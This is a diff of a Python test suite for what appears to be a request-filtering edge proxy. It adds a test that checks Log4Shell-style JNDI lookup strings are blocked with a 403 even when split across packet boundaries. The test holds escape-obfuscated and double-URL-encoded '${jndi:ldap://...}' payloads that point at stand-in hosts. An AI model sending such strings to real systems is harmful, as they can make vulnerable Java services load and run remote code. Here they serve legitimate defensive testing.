@@ -281,15 +281,27 @@ class Pieces(Case):
                     self.assertEqual(c.answer().status, 403, (location, at))
         self.unseen()
 
+    def test_attack_across_what_came_with_the_head(self):
+        for location in self.LOCATIONS:
+            for text in (BAD, "\\" + "u" * 700 + "0024{jndi:ldap://x.example/a}", "%2524%257Bjndi%253Aldap%253A%252F%252Fx%252Fa%257D"):
+                body = b"a=1&b=" + to_bytes(text) + b"&c=" + b"x" * 5000
+                data = request(location, body=body)
+                head = len(data) - len(body)
+                for cut in [*range(head + 1, head + 60), head + 300, head + 700, head + 720]:
+                    self.assertEqual(self.cut(data, [cut], 0.001).status, 403, (location, text, cut - head))
+        self.unseen()
+
     def test_unbuffered_upstreams_never_see_the_end(self):
-        data = request("/unbuffered", body=b"z" * 20000 + to_bytes(BAD) + b"z" * 100)
+        def mine():  # what other tests broke off may still come in
+            return [x for x in self.upstream.seen if x["path"] == "/unbuffered/end"]
+        data = request("/unbuffered/end", body=b"z" * 20000 + to_bytes(BAD) + b"z" * 100)
         with Client(self.edge.port) as c:
             c.send(data[:15000])
-            self.assertTrue(wait_for(lambda: self.upstream.seen))
+            self.assertTrue(wait_for(mine))
             time.sleep(0.05)
             c.send(data[15000:])
             self.assertEqual(c.answer().status, 403)
-        seen = wait_for(lambda: [x for x in self.upstream.seen if "body" in x])
+        seen = wait_for(lambda: [x for x in mine() if "body" in x])
         self.assertEqual(len(seen), 1)
         self.assertFalse(seen[0]["whole"])
         self.assertNotIn(b"$", seen[0]["body"])
